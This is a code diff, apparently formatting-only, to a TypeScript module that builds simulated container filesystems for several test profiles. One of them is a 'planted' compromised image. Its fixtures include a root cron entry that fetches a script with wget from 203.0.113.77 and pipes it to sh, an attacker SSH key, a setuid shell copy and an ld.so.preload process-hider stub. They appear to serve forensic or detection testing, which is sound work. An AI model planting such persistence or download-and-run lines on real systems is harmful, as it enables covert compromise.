@@ -23,7 +23,15 @@ export interface ContainerContext {
   readonly now: Date;
 }
 
-export type ProfileName = 'shell' | 'web' | 'api' | 'worker' | 'sidecar' | 'system' | 'distroless' | 'planted';
+export type ProfileName =
+  | 'shell'
+  | 'web'
+  | 'api'
+  | 'worker'
+  | 'sidecar'
+  | 'system'
+  | 'distroless'
+  | 'planted';
 
 const imageBuilt = new Date('2026-09-14T08:21:00Z');
 const minutesAgo = (now: Date, minutes: number) => new Date(now.getTime() - minutes * 60_000);
@@ -44,24 +52,47 @@ function etcFiles(context: ContainerContext, extraUsers = ''): Tree {
       `root:x:0:0:root:/root:/bin/sh\nbin:x:1:1:bin:/bin:/sbin/nologin\ndaemon:x:2:2:daemon:/sbin:/sbin/nologin\nnobody:x:65534:65534:nobody:/:/sbin/nologin\napp:x:1000:1000:app:/home/app:/bin/sh\n${extraUsers}`,
       { mtime: imageBuilt },
     ),
-    'etc/group': file('root:x:0:\nbin:x:1:\ndaemon:x:2:\nnogroup:x:65534:\napp:x:1000:\n', { mtime: imageBuilt }),
-    'etc/shadow': file('root:$6$Zk3p$3vO1rV0pJm2bX0yQ9lQm1d6mQv5sE0Cq4b1m3H0aX2v:20345:0:::::\napp:!:20345:0:99999:7:::\n', {
-      mode: 0o640,
+    'etc/group': file('root:x:0:\nbin:x:1:\ndaemon:x:2:\nnogroup:x:65534:\napp:x:1000:\n', {
       mtime: imageBuilt,
     }),
+    'etc/shadow': file(
+      'root:$6$Zk3p$3vO1rV0pJm2bX0yQ9lQm1d6mQv5sE0Cq4b1m3H0aX2v:20345:0:::::\napp:!:20345:0:99999:7:::\n',
+      {
+        mode: 0o640,
+        mtime: imageBuilt,
+      },
+    ),
     'etc/hostname': file(`${context.pod}\n`),
-    'etc/hosts': file(`127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost ip6-loopback\n10.0.0.12\t${context.pod}\n`),
-    'etc/resolv.conf': file(`search ${context.namespace}.svc.cluster.local svc.cluster.local cluster.local\nnameserver 10.96.0.10\noptions ndots:5\n`),
-    'etc/os-release': file('NAME="Alpine Linux"\nID=alpine\nVERSION_ID=3.20.3\nPRETTY_NAME="Alpine Linux v3.20"\n', { mtime: imageBuilt }),
-    'etc/crontabs/root': file('# min\thour\tday\tmonth\tweekday\tcommand\n*/15\t*\t*\t*\t*\trun-parts /etc/periodic/15min\n0\t2\t*\t*\t*\trun-parts /etc/periodic/daily\n', { mode: 0o600, mtime: imageBuilt }),
+    'etc/hosts': file(
+      `127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost ip6-loopback\n10.0.0.12\t${context.pod}\n`,
+    ),
+    'etc/resolv.conf': file(
+      `search ${context.namespace}.svc.cluster.local svc.cluster.local cluster.local\nnameserver 10.96.0.10\noptions ndots:5\n`,
+    ),
+    'etc/os-release': file(
+      'NAME="Alpine Linux"\nID=alpine\nVERSION_ID=3.20.3\nPRETTY_NAME="Alpine Linux v3.20"\n',
+      { mtime: imageBuilt },
+    ),
+    'etc/crontabs/root': file(
+      '# min\thour\tday\tmonth\tweekday\tcommand\n*/15\t*\t*\t*\t*\trun-parts /etc/periodic/15min\n0\t2\t*\t*\t*\trun-parts /etc/periodic/daily\n',
+      { mode: 0o600, mtime: imageBuilt },
+    ),
     'lib/apk/db/installed': file(
       'P:musl\nV:1.2.5-r0\nA:x86_64\nT:the musl c library\n\nP:busybox\nV:1.36.1-r29\nA:x86_64\nT:Size optimized toolbox of many common UNIX utilities\n\nP:ca-certificates-bundle\nV:20240705-r0\nA:x86_64\nT:Pre generated bundle of Mozilla certificates\n\n',
       { mtime: imageBuilt },
     ),
-    'root/.ash_history': file('ls -la /app\ncat /etc/os-release\nps aux\nexit\n', { mode: 0o600, mtime: minutesAgo(context.now, 600) }),
-    'home/app/.ash_history': file('cd /app\n./healthcheck\ntail -n 50 /var/log/app/app.log\n', { mode: 0o600, mtime: minutesAgo(context.now, 300) }),
+    'root/.ash_history': file('ls -la /app\ncat /etc/os-release\nps aux\nexit\n', {
+      mode: 0o600,
+      mtime: minutesAgo(context.now, 600),
+    }),
+    'home/app/.ash_history': file('cd /app\n./healthcheck\ntail -n 50 /var/log/app/app.log\n', {
+      mode: 0o600,
+      mtime: minutesAgo(context.now, 300),
+    }),
     'var/log/app/app.log': file(appLog(context.now, context.pod), { mtime: minutesAgo(context.now, 1) }),
-    'var/log/messages': file(`${isoMinutesAgo(context.now, 90)} ${context.pod} syslog.info syslogd started: BusyBox v1.36.1\n`),
+    'var/log/messages': file(
+      `${isoMinutesAgo(context.now, 90)} ${context.pod} syslog.info syslogd started: BusyBox v1.36.1\n`,
+    ),
     'tmp/app.pid': file('1\n'),
   };
 }
@@ -78,11 +109,19 @@ function appLog(now: Date, pod: string): string {
 
 function entrypointScript(body: string): Tree {
   return {
-    'docker-entrypoint.sh': file(`#!/bin/sh\nhostname "$HOSTNAME"\nip link set lo up\n${body}\n`, { mode: 0o755, mtime: imageBuilt }),
+    'docker-entrypoint.sh': file(`#!/bin/sh\nhostname "$HOSTNAME"\nip link set lo up\n${body}\n`, {
+      mode: 0o755,
+      mtime: imageBuilt,
+    }),
   };
 }
 
-function shellImage(context: ContainerContext, body: string, extra: Tree = {}, env: Record<string, string> = {}): ContainerImage {
+function shellImage(
+  context: ContainerContext,
+  body: string,
+  extra: Tree = {},
+  env: Record<string, string> = {},
+): ContainerImage {
   return {
     tree: {
       ...busyboxBase(context.applets),
@@ -101,16 +140,32 @@ function shellImage(context: ContainerContext, body: string, extra: Tree = {}, e
 function distrolessImage(context: ContainerContext): ContainerImage {
   return {
     tree: {
-      'etc/passwd': file('root:x:0:0:root:/root:/sbin/nologin\nnobody:x:65534:65534:nobody:/nonexistent:/sbin/nologin\nnonroot:x:65532:65532:nonroot:/home/nonroot:/sbin/nologin\n', { mtime: imageBuilt }),
+      'etc/passwd': file(
+        'root:x:0:0:root:/root:/sbin/nologin\nnobody:x:65534:65534:nobody:/nonexistent:/sbin/nologin\nnonroot:x:65532:65532:nonroot:/home/nonroot:/sbin/nologin\n',
+        { mtime: imageBuilt },
+      ),
       'etc/group': file('root:x:0:\nnobody:x:65534:\nnonroot:x:65532:\n', { mtime: imageBuilt }),
-      'etc/os-release': file('PRETTY_NAME="Distroless"\nNAME="Debian GNU/Linux"\nID="debian"\nVERSION_ID="12"\n', { mtime: imageBuilt }),
-      'var/lib/dpkg/status.d/base-files': file('Package: base-files\nVersion: 12.4+deb12u9\nArchitecture: amd64\n', { mtime: imageBuilt }),
-      'var/lib/dpkg/status.d/tzdata': file('Package: tzdata\nVersion: 2024b-0+deb12u1\nArchitecture: all\n', { mtime: imageBuilt }),
+      'etc/os-release': file(
+        'PRETTY_NAME="Distroless"\nNAME="Debian GNU/Linux"\nID="debian"\nVERSION_ID="12"\n',
+        { mtime: imageBuilt },
+      ),
+      'var/lib/dpkg/status.d/base-files': file(
+        'Package: base-files\nVersion: 12.4+deb12u9\nArchitecture: amd64\n',
+        { mtime: imageBuilt },
+      ),
+      'var/lib/dpkg/status.d/tzdata': file('Package: tzdata\nVersion: 2024b-0+deb12u1\nArchitecture: all\n', {
+        mtime: imageBuilt,
+      }),
       'app/server': { kind: 'copy', from: context.appBinary, mode: 0o755, mtime: imageBuilt },
       ...serviceAccountFiles(context),
     },
     entrypoint: ['/app/server', `--hostname=${context.pod}`, '--listen=:8443'],
-    env: { PATH: defaultPath, HOSTNAME: context.pod, HOME: '/home/nonroot', SIGNING_KEY_PATH: '/var/run/keys/signing.pem' },
+    env: {
+      PATH: defaultPath,
+      HOSTNAME: context.pod,
+      HOME: '/home/nonroot',
+      SIGNING_KEY_PATH: '/var/run/keys/signing.pem',
+    },
     logLines: ['{"level":"info","msg":"token signer listening","addr":":8443"}'],
     shell: false,
   };
@@ -137,12 +192,21 @@ function plantedImage(context: ContainerContext): ContainerImage {
     'var/www/index.html': file('<html><body>cart</body></html>\n', { mtime: imageBuilt }),
     'tmp/.bash': { kind: 'copy', from: '/bin/busybox', mode: 0o4755, mtime: planted },
     'etc/ld.so.preload': file('/usr/lib/libprocesshider.so\n', { mtime: planted }),
-    'usr/lib/libprocesshider.so': file(Buffer.from('\x7fELF-planted-test-library\n'), { mode: 0o755, mtime: planted }),
-    'etc/crontabs/root': file('*/5 * * * * wget -q -O- http://203.0.113.77/c.sh | sh\n', { mode: 0o600, mtime: planted }),
-    'root/.ssh/authorized_keys': file('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl attacker@kali\n', {
+    'usr/lib/libprocesshider.so': file(Buffer.from('\x7fELF-planted-test-library\n'), {
+      mode: 0o755,
+      mtime: planted,
+    }),
+    'etc/crontabs/root': file('*/5 * * * * wget -q -O- http://203.0.113.77/c.sh | sh\n', {
       mode: 0o600,
       mtime: planted,
     }),
+    'root/.ssh/authorized_keys': file(
+      'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl attacker@kali\n',
+      {
+        mode: 0o600,
+        mtime: planted,
+      },
+    ),
     'root/.ash_history': file(
       [
         'id',
@@ -167,19 +231,32 @@ export function imageFor(profile: ProfileName, context: ContainerContext): Conta
     case 'shell':
       return shellImage(context, 'exec sleep 2147483647');
     case 'web':
-      return shellImage(context, 'mkdir -p /var/www && echo ok > /var/www/index.html\nhttpd -p 8080 -h /var/www\nexec sleep 2147483647');
+      return shellImage(
+        context,
+        'mkdir -p /var/www && echo ok > /var/www/index.html\nhttpd -p 8080 -h /var/www\nexec sleep 2147483647',
+      );
     case 'api':
-      return shellImage(context, 'exec /app/api --listen=:8080', { 'app/api': { kind: 'copy', from: context.appBinary, mode: 0o755, mtime: imageBuilt } }, {
-        DATABASE_URL: 'postgres://payments@db.payments.svc:5432/payments',
-        DATABASE_PASSWORD: 'seeded-secret-do-not-log',
-      });
+      return shellImage(
+        context,
+        'exec /app/api --listen=:8080',
+        { 'app/api': { kind: 'copy', from: context.appBinary, mode: 0o755, mtime: imageBuilt } },
+        {
+          DATABASE_URL: 'postgres://payments@db.payments.svc:5432/payments',
+          DATABASE_PASSWORD: 'seeded-secret-do-not-log',
+        },
+      );
     case 'worker':
       return shellImage(context, 'crond -b -c /etc/crontabs\nexec sleep 2147483647');
     case 'sidecar':
       return shellImage(context, 'exec tail -F /var/log/app/app.log');
     case 'system':
       return shellImage(context, `exec /usr/local/bin/${context.container} --listen=:9153`, {
-        [`usr/local/bin/${context.container}`]: { kind: 'copy', from: context.appBinary, mode: 0o755, mtime: imageBuilt },
+        [`usr/local/bin/${context.container}`]: {
+          kind: 'copy',
+          from: context.appBinary,
+          mode: 0o755,
+          mtime: imageBuilt,
+        },
       });
     case 'distroless':
       return distrolessImage(context);
